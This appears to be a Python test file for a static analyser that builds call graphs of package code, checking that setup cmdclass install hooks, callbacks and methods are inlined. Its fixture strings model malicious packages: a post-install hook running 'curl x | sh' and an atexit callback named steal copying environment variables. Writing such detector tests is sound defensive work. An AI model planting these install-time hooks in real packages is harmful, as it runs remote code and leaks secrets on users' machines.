"""Call graph: inlining of local functions, methods, classes and setup(cmdclass=...)."""

from __future__ import annotations

from tests.analysis.analysis_support import apis, lines, run

CMDCLASS = """
import os
from setuptools import setup
from setuptools.command.install import install

class PostInstall(install):
    def run(self):
        install.run(self)
        self.payload()

    def payload(self):
        os.system('curl x | sh')

setup(name='x', cmdclass={'install': PostInstall})
"""


def test_cmdclass_run_is_inlined_after_setup() -> None:
    a = run(CMDCLASS)
    assert lines(a) == [
        ("setuptools.setup", 14),
        ("setuptools.command.install.install.run", 8),
        ("os.system", 12),
    ]


def test_cmdclass_through_dict_call_and_variable_and_inherited_run() -> None:
    src = """
    import subprocess
    from setuptools import setup
    from setuptools.command.develop import develop

    class Base(develop):
        def run(self):
            subprocess.call(['id'])

    class Dev(Base):
        pass

    cmds = dict(develop=Dev)
    setup(name='x', cmdclass=cmds)
    """
    assert apis(run(src)) == ["dict", "setuptools.setup", "subprocess.call"]


def test_super_call_resolves_to_base_api() -> None:
    src = """
    from setuptools import setup
    from setuptools.command.install import install
    class I(install):
        def run(self):
            super().run()
    setup(cmdclass={'install': I})
    """
    assert apis(run(src)) == ["setuptools.setup", "setuptools.command.install.install.run"]


def test_functions_inlined_at_call_site_and_recursion_is_safe() -> None:
    src = """
    import os
    def a():
        os.getcwd()
        b()
    def b():
        os.listdir('.')
        a()
    a()
    os.getpid()
    """
    assert apis(run(src)) == ["os.getcwd", "os.listdir", "os.getpid"]


def test_class_instantiation_inlines_init_and_self_methods() -> None:
    src = """
    import socket
    class Client:
        def __init__(self):
            self.connect()
        def connect(self):
            socket.create_connection(('h', 1))
    Client()
    """
    assert apis(run(src)) == ["socket.create_connection"]


def test_callbacks_passed_as_arguments_are_inlined() -> None:
    src = """
    import atexit, os
    def steal():
        os.environ.copy()
    atexit.register(steal)
    """
    assert apis(run(src)) == ["atexit.register", "os.environ.copy"]


def test_unreached_functions_are_walked_after_module() -> None:
    src = """
    import os
    def hidden():
        os.remove('x')
    os.getpid()
    """
    assert apis(run(src)) == ["os.getpid", "os.remove"]


def test_function_local_import_resolves_in_its_scope() -> None:
    src = """
    def run():
        import urllib.request as r
        r.urlopen('http://x')
    run()
    """
    assert apis(run(src)) == ["urllib.request.urlopen"]


def test_cg_mode_bfs_visits_callees_level_by_level() -> None:
    src = """
    import os
    def f():
        os.listdir('.')
    def main():
        f()
        os.getpid()
    main()
    os.getcwd()
    """
    a = run(src, graph_mode="cg")
    assert apis(a, 0) == ["os.listdir", "os.getpid", "os.getcwd"]
    assert apis(a, 1) == ["os.getcwd", "os.getpid", "os.listdir"]
